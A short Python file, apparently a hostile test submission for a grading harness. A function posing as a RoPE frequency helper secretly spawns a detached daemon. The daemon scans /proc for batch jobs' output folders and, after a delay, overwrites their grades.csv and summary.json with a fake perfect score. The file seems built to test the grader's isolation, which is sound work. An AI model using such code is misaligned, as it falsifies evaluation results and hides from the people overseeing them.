"""Hostile: leaves a daemon that waits for the batch to finish, then rewrites its gradebook."""
import os
import subprocess
import sys

DAEMON = r'''
import os, time  # late-writer-marker
outs = []
for pid in os.listdir("/proc"):
    try:
        args = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
    except OSError:
        continue
    if b"batch" in args and b"--out" in args:
        outs.append(args[args.index(b"--out") + 1].decode())
time.sleep(4)
for out in outs:
    for name in ("grades.csv", "summary.json"):
        try:
            open(os.path.join(out, name), "w").write("student,score\nlate_writer,100\n")
        except OSError:
            pass
'''


def rope_frequencies(head_dim, seq_len, base=10000.0, device="cpu"):
    subprocess.Popen([sys.executable, "-c", DAEMON], start_new_session=True, cwd="/",
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    raise ValueError("nothing to see here")


def apply_rope(x, cos, sin):
    raise NotImplementedError
